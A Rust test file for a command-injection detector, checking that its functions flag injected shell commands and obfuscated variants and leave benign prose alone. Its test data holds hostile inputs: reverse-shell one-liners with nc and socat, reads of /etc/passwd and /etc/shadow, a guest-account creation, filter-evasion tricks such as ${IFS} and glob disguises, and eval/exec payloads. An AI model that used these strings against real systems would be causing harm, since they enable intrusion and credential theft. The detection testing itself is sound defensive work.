use proptest::prelude::*;

use super::*;
use crate::detect::confirm::testing::{body, query};

#[track_caller]
fn check(confirm: crate::detect::confirm::Confirm, cases: &[(&str, bool)]) {
    for (text, expected) in cases {
        assert_eq!(confirm(&query(text)).is_some(), *expected, "{text}");
    }
}

#[test]
fn commands_are_found_behind_separators() {
    check(
        separated_command,
        &[
            ("; cat /srv/secret", true),
            ("10.0.0.1;id", true),
            ("10.0.0.1 && whoami", true),
            ("x|/usr/bin/id", true),
            ("|id", true),
            ("\" || sleep 10 #", true),
            ("\nping -c 3 10.0.0.1\n", true),
            ("`id`", true),
            ("$(whoami)", true),
            ("x;FOO=1 nc -e /bin/sh 10.0.0.1 4444", true),
            ("& type C:\\secret.txt", true),
            ("&& net user guest", true),
            ("|powershell -enc AAAA", true),
            ("; echo x > /tmp/y", true),
            ("10.0.0.1;env", true),
            ("x;busybox telnetd -l /bin/sh", true),
            ("x;sudo -l", true),
            ("'$(env)'", true),
            ("10.0.0.1\nls", true),
            ("; echo word;", true),
            ("x\" | ls | \"", true),
            ("& powershell Get-Process", true),
            ("x\nls", false),
            ("|name|ls|date|", false),
            ("; echo dot and show", false),
            ("& powershell scripts", false),
            (";xargs -I{} sh -c id", true),
            ("& dig +short x.example &", true),
            (";socat exec:sh tcp:10.0.0.1:4", true),
            (";chmod 755 x", true),
            (";find / -name x", true),
            ("|more+/etc/passwd", true),
            ("10.0.0.1\nwhoami", true),
            ("News & more</title>", false),
            ("who\nwhat\nwhere", false),
            ("California has\nmore lawyers?\n\nWhy?", false),
            ("; cat ???.txt", true),
            ("see <https://example.com/a|link> and more", false),
            ("<@U024BE7LH|host>", false),
            ("<https://example.com/a|id>/tmp/x", true),
            ("https://example.com/a|id>x;", true),
            ("R&D; id card", false),
            ("cats; dogs; birds", false),
            ("a && b", false),
            ("Tom & sh", false),
            ("sort=name|id|date", false),
            ("| id | name | type |", false),
            ("run `ls -la` first, then go on", false),
            ("cat food & dog food; which is cheaper", false),
            ("X11; Linux x86_64; rv:1", false),
            ("https://example.com/?q=x&type=pin&sort=all", false),
            ("bread & more; less sugar", false),
            ("text/html;q=0.9", false),
            ("find love; date me", false),
        ],
    );
}

#[test]
fn disguises_come_off() {
    check(
        separated_command,
        &[
            (";/???/c?t /???/p?ss??", true),
            ("|c'a't /srv/x", true),
            ("|w\\ho\\ami", true),
            (";who$@ami", true),
            (";cat${IFS}/srv/x", true),
            (";{curl,http://elsewhere.example/x}", true),
            (";${PATH:0:1}bin${PATH:0:1}id", true),
            ("& w^ho^ami", true),
            (";$IFS'i'd", true),
            (";ca$u /et$u{}c/pas$@swd", true),
            ("|who's there", false),
            ("; what? /why", false),
            (";{a,b}", false),
            ("'a','b';'c'", false),
            ("; ${name} and ${date}", false),
        ],
    );
}

#[test]
fn whole_values_can_be_command_lines() {
    check(
        whole_command,
        &[
            ("cat /etc/passwd", true),
            ("ls -la /srv", true),
            ("cat${IFS}/srv/x", true),
            ("net user guest secret /add", true),
            ("nc -lvp 4444 -e /bin/sh", true),
            ("/usr/bin/id", true),
            ("bash -c 'id'", true),
            ("python -c 'print(1)'", true),
            ("powershell -nop -c x", true),
            ("ls swap camaro", false),
            ("wget alternatives", false),
            ("sleep (8 hours) benefits", false),
            ("echo dot 5", false),
            ("cat food", false),
            ("Type /k/ nicely", false),
            ("id", false),
            ("python 3.12 release notes", false),
        ],
    );
}

#[test]
fn texts_may_talk_about_commands() {
    for (text, expected) in [
        ("Title: help\n\nls -la | wc -l gives 12\n\nEdit: solved.", false),
        ("I ran chmod 644 a.txt; ls -l shows the same bits as before", false),
        ("`rm -rf ./build && make -j4` did not change anything at all", false),
        ("```sh\ncd /srv/app && ./run.sh --port 8080\n```", false),
        ("```bash\nmake\n```\n\n```powershell\nGet-ChildItem -Path C:\\ | Where-Object { $_.Length }\n```", false),
        ("#!/bin/sh\nset -e\ncd /srv/app\nrsync -a ./dist web:/srv", false),
        ("Use `git log --oneline | head -5` to see the last commits, then go on", false),
        ("x`git log --oneline | head -5` to see the last commits, then go on", true),
        ("10.0.0.1; ls -la /srv # and then some words follow here", true),
        ("x`ls -la`y and then some words follow here", true),
        ("10.0.0.1\n\nls -la /srv", true),
        ("```sh\ncat /etc/shadow\n```", true),
        ("what a lovely day it is | ls -la /srv", true),
    ] {
        assert_eq!(separated_command(&body(text)).is_some(), expected, "{text}");
        assert!(separated_command(&query(text)).is_some() || !expected, "{text}");
    }
}

#[test]
fn prose_needs_a_lethal_target() {
    let filler = "the quick brown fox jumps over the lazy dog ".repeat(6);
    assert!(separated_command(&body(&format!("{filler}; ls -la"))).is_none());
    assert!(separated_command(&body(&format!("{filler}; cat /etc/shadow"))).is_some());
}

#[test]
fn calls_hand_commands_over() {
    check(
        call_with_command,
        &[
            ("system('id')", true),
            ("; exec(\"cat /srv/x\");", true),
            ("assert($_GET['x'])", true),
            ("eval(base64_decode('aWQ='))", true),
            ("require('child_process').exec('id')", true),
            ("/x/.exec('banana')", false),
            ("the system (id) is", false),
            ("retrieval('id')", false),
            ("system(name)", false),
        ],
    );
}

proptest! {
    #[test]
    fn any_text_is_read_without_panic(text in "(;|\\||&|`|\\$|\\{|\\}|'|\"|\\\\|id|cat|/bin/|IFS|\\PC|[\\x00-\\x20]){0,80}") {
        for confirm in [separated_command, whole_command, call_with_command] {
            if let Some(found) = confirm(&query(&text)) {
                prop_assert!(found.start <= found.end && found.end <= text.len());
            }
        }
    }
}

#[test]
fn a_path_of_windows_may_be_longer_than_what_is_kept_of_it() {
    // What is dropped from the word and not from the name behind its last backslash made the name the longer one.
    let text = "7||rnets.io/*'%**||rnets.io/*'y*";
    for before in ["", "c:\\", "\\\\", "%x%\\", "x:\\\\\u{7}o5%'||1"] {
        for after in ["", "\\*'*'*'*", "\\n''*''?", "\\'a'*"] {
            assert!(
                separated_command(&body(&format!("a;{before}{text};{before}*{after} -x"))).is_none(),
                "{before} {after}"
            );
        }
    }
}
